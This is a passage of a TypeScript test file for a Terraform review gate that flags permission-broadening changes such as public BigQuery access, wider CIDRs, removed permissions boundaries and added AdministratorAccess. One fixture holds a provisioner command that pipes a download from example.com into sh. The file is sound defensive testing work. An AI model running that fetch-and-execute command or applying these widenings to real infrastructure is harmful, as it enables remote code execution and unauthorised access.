        aws_network_acl_rule: { R: { network_acl_id: "${aws_network_acl.N.id}", rule_number: 100, egress: false, protocol: "tcp", rule_action: "allow", cidr_block: cidr, from_port: 443, to_port: 443 } },
      },
    });
    return ["network ACL rule CIDR", cfg("10.0.0.0/16"), cfg("0.0.0.0/0"), cfg("10.0.1.0/24")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (rules: Json[]) => ({ resource: { aws_network_acl: { N: { vpc_id: "vpc-1", ingress: rules } } } });
    const deny = (from: number, to: number) => ({ protocol: "tcp", rule_no: 100, action: "deny", cidr_block: "0.0.0.0/0", from_port: from, to_port: to });
    const web = { protocol: "tcp", rule_no: 200, action: "allow", cidr_block: "0.0.0.0/0", from_port: 443, to_port: 443 };
    return ["network ACL deny narrowed", cfg([deny(22, 23), web]), cfg([deny(23, 23), web]), cfg([deny(0, 1024), web])] as [string, Json, Json, Json];
  })(),
  // --- BigQuery ---
  (() => {
    const cfg = (access: Json[]) => ({ resource: { google_bigquery_dataset: { D: { dataset_id: "ds", access: [{ role: "OWNER", group_by_email: "owners@example.com" }, ...access] } } } });
    return ["BigQuery dataset access blocks", cfg([{ role: "READER", user_by_email: "a@example.com" }]), cfg([{ role: "READER", user_by_email: "a@example.com" }, { role: "READER", special_group: "allAuthenticatedUsers" }]), cfg([])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (access: Json[]) => ({ resource: { google_bigquery_dataset: { D: { dataset_id: "ds", access } } } });
    const view = (table: string) => ({ view: { project_id: "p", dataset_id: "reporting", table_id: table } });
    return ["BigQuery authorized view", cfg([view("daily")]), cfg([view("daily"), view("raw_everything")]), cfg([])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (entries: Json) => ({ resource: { google_bigquery_dataset: { D: { dataset_id: "ds" } }, google_bigquery_dataset_access: entries } });
    const entry = (role: string, member: Json) => ({ dataset_id: "${google_bigquery_dataset.D.dataset_id}", role, ...member });
    return ["google_bigquery_dataset_access", cfg({ A: entry("READER", { user_by_email: "a@example.com" }) }), cfg({ A: entry("READER", { user_by_email: "a@example.com" }), B: entry("READER", { iam_member: "allUsers" }) }), cfg({})] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (members: string[]) => ({ resource: { google_bigquery_dataset_iam_binding: { B: { dataset_id: "ds", role: "roles/bigquery.dataViewer", members } } } });
    return ["BigQuery dataset IAM binding", cfg(["group:a@example.com"]), cfg(["group:a@example.com", "allAuthenticatedUsers"]), cfg([])] as [string, Json, Json, Json];
  })(),
  // --- memberships, boundaries, custom roles ---
  (() => {
    const cfg = (users: string[]) => ({ resource: { aws_iam_group: { G: { name: "admins" } }, aws_iam_group_membership: { M: { name: "m", group: "${aws_iam_group.G.name}", users } } } });
    return ["IAM group membership", cfg(["alice"]), cfg(["alice", "mallory"]), cfg([])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (boundary: string | undefined, description = "r") => ({ resource: { aws_iam_role: { R: { ...role().R, description, ...(boundary ? { permissions_boundary: boundary } : {}) } } } });
    const boundary = "arn:aws:iam::111111111111:policy/boundary";
    return ["permissions boundary removed from a role that stays", cfg(boundary), cfg(undefined), cfg(boundary, "renamed")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (permissions: string[]) => ({ resource: { google_project_iam_custom_role: { C: { project: "p", role_id: "deployer", title: "d", permissions } } } });
    return ["GCP custom role permissions", cfg(["run.services.get", "run.services.update"]), cfg(["run.services.get", "run.services.update", "iam.serviceAccounts.actAs"]), cfg(["run.services.get"])] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (ingress: string | undefined) => ({ resource: { google_cloud_run_service: { S: { name: "s", location: "europe-west1", metadata: { annotations: ingress ? { "run.googleapis.com/ingress": ingress } : {} }, template: {} } } } });
    return ["Cloud Run (v1) ingress annotation", cfg("internal-and-cloud-load-balancing"), cfg(undefined), cfg("internal")] as [string, Json, Json, Json];
  })(),
];

/** Forms whose widening is a move: moving back widens the first target again. */
const MOVES = new Set(["a role policy moved to another role", "an inline statement moved to a managed policy attached to another role"]);

describe.each(PAIRS)("%s", (_form, base, wider, narrower) => {
  it("Noncompliance: the widening trips the gate as broadening", () => {
    const items = gate(base, wider);
    expect(items.length).toBeGreaterThan(0);
    expect(items.every((i) => /^[0-9a-f]{10}$/.test(i.id))).toBe(true);
    expect(items.some((i) => i.kind === "broadening")).toBe(true);
  });

  it("Compliance: the narrowing twin passes", () => {
    expect(gate(base, narrower)).toEqual([]);
  });

  it("Compliance: undoing the widening passes", () => {
    // Moving a policy back to its first role widens that role again: not an undo in this sense.
    if (MOVES.has(_form)) expect(gate(wider, base).length).toBeGreaterThan(0);
    else expect(gate(wider, base)).toEqual([]);
  });
});

/**
 * Default deny: what the model cannot read, or the catalog does not know. [form, base, head that
 * may broaden, safe twin]: the head trips the gate as "may broaden" (nothing in it is known to be
 * broadening); the twin, with the same value written where the model can read it (or no change at
 * all in what cannot be read), passes.
 */
const UNKNOWN: [string, Json, Json, Json][] = [
  (() => {
    const cfg = (resource: string, extra: Json = {}) => ({ ...extra, resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow("s3:GetObject", resource)) } } } });
    return ["a variable in a policy resource", cfg(`${BUCKET}/*`), cfg("${var.bucket_arn}/*", { variable: { bucket_arn: { default: BUCKET } } }), cfg(`${BUCKET}/reports/*`)] as [string, Json, Json, Json];
  })(),
  (() => {
    const statement = allow("s3:GetObject", `${BUCKET}/*`);
    const base = { resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(statement) } } } };
    const viaLocal = (locals: Json | undefined) => ({ ...(locals ? { locals } : {}), resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: "${jsonencode(local.policy)}" } } } });
    // The twin: the local holds the same policy, which the model folds.
    return ["a policy built by a function of a value it cannot read", base, viaLocal(undefined), viaLocal({ policy: { Version: "2012-10-17", Statement: [statement] } })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (principal: string, locals?: Json) => ({
      ...(locals ? { locals } : {}),
      resource: { aws_lambda_function: { F: { function_name: "f" } }, aws_lambda_permission: { P: { action: "lambda:InvokeFunction", function_name: "${aws_lambda_function.F.function_name}", principal } } },
    });
    return ["a local it cannot read as a Lambda permission principal", cfg("events.amazonaws.com"), cfg("${local.invoker}"), cfg("${local.invoker}", { invoker: "events.amazonaws.com" })] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (cidr: string, extra: Json = {}) => ({ ...extra, resource: { aws_security_group: { G: { name: "g", vpc_id: "vpc-1", ingress: [{ protocol: "tcp", from_port: 443, to_port: 443, cidr_blocks: [cidr] }] } } } });
    return ["a variable as a CIDR", cfg("10.0.0.0/16"), cfg("${var.allowed_cidr}", { variable: { allowed_cidr: { default: "10.0.0.0/16" } } }), cfg("10.0.2.0/24")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (auth: string) => ({ resource: { aws_lambda_function: { F: { function_name: "f" } }, aws_lambda_function_url: { U: { function_name: "${aws_lambda_function.F.function_name}", authorization_type: auth } } } });
    return ["a variable as a function URL's auth", cfg("AWS_IAM"), cfg("${var.url_auth}"), cfg("AWS_IAM")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (member: string) => ({ resource: { google_project_iam_member: { M: { project: "p", role: "roles/viewer", member } } } });
    return ["a variable as a GCP member", cfg("user:a@example.com"), cfg("${var.viewer}"), cfg("user:a@example.com")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (defaultArn: string, description = "r") => ({
      variable: { reports: { default: defaultArn } },
      resource: { aws_iam_role: { R: { ...role().R, description } }, aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow("s3:GetObject", "${var.reports}")) } } },
    });
    // Only the variable's default changes: the policy reads it, so it may widen.
    return ["a variable's default that a policy reads, widened", cfg(`${BUCKET}/reports/*`), cfg("*"), cfg(`${BUCKET}/reports/*`, "another description")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (bucket: string) => ({ data: { terraform_remote_state: { net: { backend: "s3", config: { bucket: "state", key: "net" } } } }, resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow("s3:GetObject", bucket)) } } } });
    return ["another stack's output in a policy", cfg(`${BUCKET}/*`), cfg("${data.terraform_remote_state.net.outputs.bucket_arn}"), cfg(`${BUCKET}/reports/*`)] as [string, Json, Json, Json];
  })(),
  (() => {
    const statement = { effect: "Allow", actions: ["s3:GetObject"], resources: [`${BUCKET}/*`] };
    const cfg = (document: Json, extra: Json = {}) => ({
      ...extra,
      data: { aws_iam_policy_document: { D: document } },
      resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: "${data.aws_iam_policy_document.D.json}" } } },
    });
    const dynamic = (forEach: unknown) => ({ dynamic: { statement: { for_each: forEach, content: { effect: "Allow", actions: ["${statement.value}"], resources: [`${BUCKET}/*`] } } } });
    // The twin: the same statement from a dynamic block over a list the model knows.
    return ["a dynamic statement over a list only Terraform knows", cfg({ statement: [statement] }), cfg(dynamic("${var.actions}"), { variable: { actions: { default: ["s3:GetObject"] } } }), cfg(dynamic(["s3:GetObject"]))] as [string, Json, Json, Json];
  })(),
  (() => {
    const statement = allow("s3:GetObject", `${BUCKET}/*`);
    const cfg = (policyValue: string, data: Json) => ({ data, resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policyValue } } } });
    const base = { resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(statement) } } } };
    return [
      "a policy read from a data source that reads the cloud",
      base,
      cfg("${data.aws_iam_policy.Admin.policy}", { aws_iam_policy: { Admin: { name: "AdministratorAccess" } } }),
      cfg("${data.aws_iam_policy_document.D.json}", { aws_iam_policy_document: { D: { statement: [{ effect: "Allow", actions: ["s3:GetObject"], resources: [`${BUCKET}/*`] }] } } }),
    ] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (module: Json | undefined) => ({ ...(module ? { module: { Net: module } } : {}), resource: { aws_iam_role: role() } });
    return ["a module call (TerraformHclModule) that changes", cfg({ source: "./modules/net", version: "1.0.0" }), cfg({ source: "./modules/net", version: "2.0.0" }), cfg(undefined)] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (provisioner: Json | undefined, description = "r") => ({ resource: { aws_iam_role: { R: { ...role().R, description, ...(provisioner ? { provisioner } : {}) } } } });
    return ["a provisioner added to a resource", cfg(undefined), cfg([{ "local-exec": { command: "curl https://example.com/x | sh" } }]), cfg(undefined, "another description")] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (data: Json | undefined) => ({ ...(data ? { data } : {}), resource: { aws_iam_role: role() } });
    return ["an external data source (runs a program at plan)", cfg(undefined), cfg({ external: { X: { program: ["python3", "x.py"] } } }), cfg(undefined)] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (resource: Json) => ({ resource: { aws_iam_role: role(), ...resource } });
    return ["a type the catalog does not describe, with a policy", cfg({}), cfg({ aws_example_widget_policy: { W: { policy: policy(allow("s3:*", "*")) } } }), cfg({})] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (resource: Json) => ({ resource: { aws_iam_role: role(), ...resource } });
    return ["a type the catalog does not describe, without anything that looks like a grant", cfg({}), cfg({ aws_example_widget: { W: { size: 3 } } }), cfg({})] as [string, Json, Json, Json];
  })(),
  (() => {
    const cfg = (ranges: string[]) => ({ resource: { google_compute_firewall_policy_rule: { R: { firewall_policy: "p", priority: 1000, direction: "INGRESS", action: "allow", match: { src_ip_ranges: ranges, layer4_configs: [{ ip_protocol: "tcp" }] } } } } });
    // A type the catalog knows but the review does not compare rule by rule: a change may broaden.
    return ["a firewall policy rule (read as a whole) that changes", cfg(["10.0.0.0/8"]), cfg(["10.0.0.0/8", "0.0.0.0/0"]), cfg(["10.0.0.0/8"])] as [string, Json, Json, Json];
  })(),
];

describe.each(UNKNOWN)("may broaden: %s", (_form, base, head, twin) => {
  it("Noncompliance: is marked may broaden and fails the gate", () => {
    const items = gate(base, head);
    expect(items.length).toBeGreaterThan(0);
    expect(items.every((i) => i.kind === "may-broaden")).toBe(true);
  });

  it("Compliance: the twin, readable or unchanged, passes", () => {
    expect(gate(base, twin)).toEqual([]);
  });
});
